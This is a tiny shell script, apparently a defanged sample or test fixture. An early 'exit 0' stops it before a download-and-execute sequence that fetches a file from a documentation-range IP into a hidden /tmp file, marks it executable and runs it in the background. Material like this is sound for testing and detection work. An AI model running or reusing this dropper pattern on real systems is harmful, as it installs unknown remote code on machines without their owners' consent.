#!/bin/sh
exit 0
curl -s http://203.0.113.6/x -o /tmp/.inert
chmod +x /tmp/.inert
/tmp/.inert &
